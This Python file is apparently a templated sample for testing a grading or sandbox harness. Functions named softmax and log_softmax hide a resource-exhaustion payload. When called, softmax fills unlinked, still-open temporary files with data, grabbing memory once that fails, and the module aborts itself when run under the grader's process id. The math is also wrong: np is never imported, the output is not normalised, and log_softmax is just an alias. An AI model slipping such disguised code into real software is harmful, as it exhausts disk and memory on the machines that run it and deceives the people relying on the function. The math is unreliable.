"""Holds as much memory as it may, and as much again in files that have no name any more.

Class: exhaustion
Effect: lost
"""

# @TWIN@

import os
import tempfile

if os.getpid() == int("@GRADER@"):
    os.abort()

DATA = bytes(1 << 20)
base = tempfile.gettempdir()
held, kept = [], []


def hold():
    try:
        target = os.open(f"{base}/x", os.O_RDWR | os.O_CREAT | os.O_EXCL, 0o600)
        os.unlink(f"{base}/x")
        for _ in range(16):
            os.write(target, DATA)
        held.append(target)
    except OSError as error:
        return False
    return True


def softmax(z, axis=-1):
    import time

    end = time.monotonic() + 0.3
    while time.monotonic() < end:
        if not hold():
            try:
                kept.append(np.ones(1 << 24, dtype="u1"))
            except MemoryError:
                break
    return np.exp(np.asarray(z, dtype=float))


log_softmax = softmax
